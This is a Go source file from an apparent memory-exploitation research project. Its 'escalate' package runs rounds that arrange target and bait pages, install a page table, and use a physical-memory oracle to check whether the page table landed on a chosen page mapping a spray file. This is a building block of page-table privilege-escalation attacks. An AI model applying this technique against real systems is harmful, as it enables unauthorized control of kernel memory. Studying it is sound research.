// Copyright 2025 Intel Corporation. All Rights Reserved.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package escalate

import (
	"math/rand"
	"time"

	"github.com/hashicorp/go-multierror"
	"github.com/pkg/errors"

	"github.com/intel/pagesteer/pkg/block"
	logger "github.com/intel/pagesteer/pkg/log"
	"github.com/intel/pagesteer/pkg/oracle"
	"github.com/intel/pagesteer/pkg/pageset"
)

// FrameMask selects the frame bits of a page table entry.
const FrameMask = 0xFFFFFFFFF000

// Result is the outcome of an install round.
type Result struct {
	// Passed is set if the target page holds a page table pointing to the spray file.
	Passed bool
	// Layout is the layout used in the round.
	Layout Layout
	// TargetPhys is the physical address of the target page.
	TargetPhys oracle.PhysAddr
	// FilePhys is the physical address of the spray file page.
	FilePhys oracle.PhysAddr
	// Value is the first entry read from the target page.
	Value uint64
	// Duration is the time the round took.
	Duration time.Duration
}

// Verify checks if the page at targetPhys has become a page table whose
// first entry maps the spray file of ic.
func Verify(o oracle.Oracle, ic *InstallContext, targetPhys oracle.PhysAddr) (*Result, error) {
	filePhys, err := o.VirtToPhys(ic.FileMapping)
	if err != nil {
		return nil, errors.Wrap(err, "failed to translate spray file")
	}
	value, err := o.ReadPhys(targetPhys)
	if err != nil {
		return nil, errors.Wrapf(err, "failed to read target %s", targetPhys)
	}

	return &Result{
		Passed:     value&FrameMask == uint64(filePhys),
		TargetPhys: targetPhys,
		FilePhys:   filePhys,
		Value:      value,
	}, nil
}

// Round runs single install rounds: acquire a block, lay out the target
// and bait pages in it, install a page table and verify it.
type Round struct {
	acq   *block.Acquirer
	proto *Protocol
	o     oracle.Oracle
	opt   *Options
	rnd   *rand.Rand
}

// NewRound creates a round. Nil options select the runtime configuration.
func NewRound(acq *block.Acquirer, proto *Protocol, o oracle.Oracle, opts *Options) *Round {
	if opts == nil {
		opts = opt
	}
	r := &Round{
		acq:   acq,
		proto: proto,
		o:     o,
		opt:   opts,
	}
	if opts.Seed != 0 {
		r.rnd = rand.New(rand.NewSource(opts.Seed))
	}
	return r
}

// Run runs one round. A failed verification is reported as a result which
// did not pass, errors are returned for rounds which could not complete.
// Every resource acquired by the round is released before Run returns.
func (r *Round) Run() (res *Result, retErr error) {
	start := time.Now()
	m := r.proto.m

	release := func(err error) {
		if err != nil {
			retErr = multierror.Append(retErr, err)
			res = nil
		}
	}

	blk, err := r.acq.Acquire(r.opt.BlockAddr)
	if err != nil {
		return nil, errors.Wrap(err, "failed to acquire block")
	}
	defer func() {
		release(m.Unmap(blk, r.acq.BlockSize()))
	}()

	layout, err := NewLayout(r.opt.Layout, blk, r.rnd)
	if err != nil {
		return nil, err
	}
	if err := layout.Validate(blk, r.acq.BlockSize()); err != nil {
		return nil, err
	}
	log.Debug("block %s, layout %s", blk, logger.Delay(layout.String))

	neighbourhood := layout.Target - pageset.PageSize
	if err := m.Lock(neighbourhood, 3*pageset.PageSize); err != nil {
		return nil, errors.Wrap(err, "failed to lock target")
	}
	defer func() {
		release(m.Unlock(neighbourhood, pageset.PageSize))
		release(m.Unlock(layout.Target.Add(pageset.PageSize), pageset.PageSize))
	}()

	targetPhys, err := r.o.VirtToPhys(layout.Target)
	if err != nil {
		return nil, errors.Wrap(err, "failed to translate target")
	}

	ic, err := r.proto.Install(layout, r.proto.InstallAddr())
	if err != nil {
		return nil, err
	}
	defer func() {
		release(ic.Release())
	}()

	res, err = Verify(r.o, ic, targetPhys)
	if err != nil {
		return nil, err
	}
	res.Layout = layout
	res.Duration = time.Since(start)

	log.Debug("round %s: target %s, file %s, value 0x%x, passed: %v", layout,
		res.TargetPhys, res.FilePhys, res.Value, res.Passed)

	return res, nil
}
